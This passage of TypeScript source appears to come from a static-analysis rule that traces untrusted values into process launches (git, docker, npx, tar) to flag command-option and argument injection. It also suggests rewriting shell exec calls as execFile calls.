  for (const el of elements) {
    const value = ts.isSpreadElement(el) ? el.expression : el;
    const parts = stringParts(skipOuter(value));
    const head = parts?.[0]?.kind === "text" ? parts[0].text : undefined;
    const joined = head !== undefined && /^(--?[\w-]+)=/.exec(head)?.[1];
    const option = previous !== undefined && options.has(previous) ? previous : joined && options.has(joined) ? joined : undefined;
    previous = context.constantText(value);
    const hit = option ? context.taint(value).find((h) => !safeEverywhere(h)) : undefined;
    if (!option || !hit) continue;
    if (reported.has(value)) return true;
    reported.add(value);
    context.report({
      node: value,
      messageId: "commandOption",
      data: { source: describeSource(hit), who: attacker(hit, context), program, option, api: launch.api },
      trace: context.trace(hit, value, `is the value of ${option}, which ${program} runs`),
      ...toolOf(hit, launch.call, context), ...signedInGrade(hit, context),
    });
    return true;
  }
  return false;
}

/** `-C` itself, or short options bundled getopt-style whose last one takes the value (`tar -xzf <archive>`). */
function takesValue(option: string, valueOptions: ReadonlySet<string>): boolean {
  return valueOptions.has(option) || (/^-[a-zA-Z]{2,}$/.test(option) && valueOptions.has(`-${option.slice(-1)}`));
}

/** `docker exec <container> sh -c …`: the index of the container or image, after which nothing is a docker option. */
function containerOperand(elements: readonly ts.Expression[], context: RuleContext): number | undefined {
  const first = elements[0];
  if (!first || !RUN_SUBCOMMANDS.has(context.constantText(first) ?? "")) return undefined;
  for (let i = 1; i < elements.length; i++) {
    const el = elements[i] as ts.Expression;
    if (ts.isSpreadElement(el)) continue;
    const text = context.constantText(el) ?? optionalFlag(el, context);
    if (text === "") continue;
    if (text === undefined || !text.startsWith("-")) return i;
    if (!text.includes("=") && !CONTAINER_FLAGS.has(text)) i++;
  }
  return undefined;
}

/**
 * `port ? \`-p=${port}\` : ""`, `tty && "-t"`: a flag the code adds or leaves out (an empty value a filter drops).
 * Its text when every branch is that flag or empty, "" when all are empty.
 */
function optionalFlag(el: ts.Expression, context: RuleContext): string | undefined {
  const e = skipOuter(el);
  const branches = ts.isConditionalExpression(e) ? [e.whenTrue, e.whenFalse] : ts.isBinaryExpression(e) && e.operatorToken.kind === ts.SyntaxKind.AmpersandAmpersandToken ? [e.right] : [];
  const heads = branches.map((b) => leadingText(b, (id) => context.initializer(id)));
  if (!heads.length || heads.some((h) => h === undefined || (h !== "" && !h.startsWith("-")))) return undefined;
  return heads.find((h) => h !== "") ?? "";
}

/**
 * `npx --yes pkg --agent <value>`: the index of the fixed operand the launcher runs, after which nothing is the
 * launcher's option. Undefined when a value the code does not fix comes first: that one may still be an option.
 */
function launchedOperand(elements: readonly ts.Expression[], launcher: (typeof LAUNCHERS)[string], context: RuleContext): number | undefined {
  const fixed = (i: number): string | undefined => {
    const el = elements[i];
    return el && !ts.isSpreadElement(el) ? context.constantText(el) : undefined;
  };
  let i = 0;
  if (launcher.subcommands) {
    if (!launcher.subcommands.has(fixed(0) ?? "")) return undefined;
    i = 1;
  }
  for (; i < elements.length; i++) {
    const text = fixed(i);
    // path.join(__dirname, "cli.js"): a value the code computes from nothing the attacker sends is the operand.
    if (text === undefined) return chosenByCode(elements[i], context) ? i : undefined;
    if (!text.startsWith("-")) return i;
    if (launcher.ends?.has(text)) return fixed(i + 1) !== undefined ? i + 1 : undefined;
    if (launcher.values.has(text)) i++;
  }
  return undefined;
}

function chosenByCode(el: ts.Expression | undefined, context: RuleContext): boolean {
  return !!el && !ts.isSpreadElement(el) && context.taint(el).length === 0;
}

function report(hit: TaintHit, program: string, at: ts.Expression, launch: ProcessLaunch, context: RuleContext): void {
  const optionOnly = program.startsWith("git ");
  context.report({
    node: at,
    messageId: optionOnly ? "optionInjection" : "argumentInjection",
    data: { source: describeSource(hit), who: attacker(hit, context), program, api: launch.api },
    severity: optionOnly ? "medium" : "high",
    confidence: "medium",
    trace: context.trace(hit, at, `becomes an argument of ${program}`),
    ...toolOf(hit, launch.call, context), ...signedInGrade(hit, context),
  });
}

function safeEverywhere(h: TaintHit): boolean {
  return hasMark(h.taint, "number") || hasMark(h.taint, "const") || hasMark(h.taint, "regex");
}

function unsanitized(h: TaintHit): boolean {
  return !safeEverywhere(h) && !quoted(h);
}

/** Quoted for the shell, percent-encoded or base64-encoded on the way: no longer a word the shell splits. */
function quoted(h: TaintHit): boolean {
  return hasMark(h.taint, "shell-quoted") || hasMark(h.taint, "uri-encoded") || hasMark(h.taint, "base64");
}

/** Escaped for a double-quoted AppleScript string: both quotes and backslashes, in one step or two. */
function inAppleScriptString(h: TaintHit): boolean {
  const escapes = h.taint.marks.filter((m) => m.kind === "string-escaped").map((m) => m.detail);
  return hasMark(h.taint, "uri-encoded") || escapes.includes(undefined) || (escapes.includes("quote") && escapes.includes("backslash"));
}

function canStartOption(h: TaintHit): boolean {
  return !safeEverywhere(h) && !hasMark(h.taint, "prefixed") && !hasMark(h.taint, "absolute") && !hasMark(h.taint, "url-path") && !hasMark(h.taint, "url-format") && !hasMark(h.taint, "base64");
}

function precededByDoubleDash(call: ts.Node, piece: ts.Expression): boolean {
  if (!ts.isTaggedTemplateExpression(call) || !ts.isTemplateExpression(call.template)) return false;
  let text = call.template.head.text;
  for (const span of call.template.templateSpans) {
    if (span.expression === piece) return /(^|\s)--\s*$/.test(text) || /(^|\s)--\s/.test(text);
    text += ` x ${span.literal.text}`;
  }
  return false;
}

/** `--since=${x}`: the tag quotes the whole word, so fixed text right before the value keeps it from being an option. */
function gluedToText(call: ts.Node, piece: ts.Expression): boolean {
  if (!ts.isTaggedTemplateExpression(call) || !ts.isTemplateExpression(call.template)) return false;
  const spans = call.template.templateSpans;
  const i = spans.findIndex((s) => s.expression === piece);
  const before = i === 0 ? call.template.head.text : spans[i - 1]?.literal.text;
  return !!before && !/\s$/.test(before);
}

function programOfTemplate(call: ts.Node): string | undefined {
  if (!ts.isTaggedTemplateExpression(call)) return undefined;
  const head = ts.isTemplateExpression(call.template) ? call.template.head.text : call.template.text;
  const program = head.trim().split(/\s+/)[0];
  return program && OPTION_SENSITIVE_PROGRAMS.has(program) ? program : undefined;
}

/** exec(`git log ${ref}`) → execFile("git", ["log", ref]) when the template is plain words. */
function fixFor(launch: ProcessLaunch, context: RuleContext): { fix?: { description: string; replacement?: { location: ReturnType<RuleContext["step"]>["location"]; text: string } } } {
  const cmd = launch.shellCommand?.expr;
  if (!cmd || launch.shellArgs || !ts.isCallExpression(launch.call)) return {};
  const parts = stringParts(skipOuter(cmd));
  if (!parts) return {};
  const words: string[] = [];
  let current = "";
  for (const p of parts) {
    if (p.kind === "text") {
      if (/["'`|&;<>$()\\*?{}[\]~]/.test(p.text)) return {};
      const pieces = p.text.split(/\s+/);
      current += pieces[0] ?? "";
      for (const piece of pieces.slice(1)) {
        if (current) words.push(JSON.stringify(current));
        current = piece;
      }
    } else {
      if (current) return {};
      words.push(p.expr.getText());
      current = "";
    }
  }
  if (current) words.push(JSON.stringify(current));
  const [program, ...rest] = words;
  if (!program || !program.startsWith('"')) return {};
  // Only a direct exec/execSync call maps onto execFile; a promisified alias would need its definition changed too.
  const calleeText = launch.call.expression.getText();
  if (!/(^|\.)exec(Sync)?$/.test(calleeText)) return { fix: { description: "Run the program with execFile (no shell), one argument per value" } };
  const callee = calleeText.replace(/exec(Sync)?$/, (m) => (m === "execSync" ? "execFileSync" : "execFile"));
  const tail = launch.call.arguments.slice(1).map((a) => a.getText());
  const text = `${callee}(${[program, `[${rest.join(", ")}]`, ...tail].join(", ")})`;
  return { fix: { description: "Run the program without a shell, one argument per value", replacement: { location: context.step(launch.call, "sink", "").location, text } } };
}
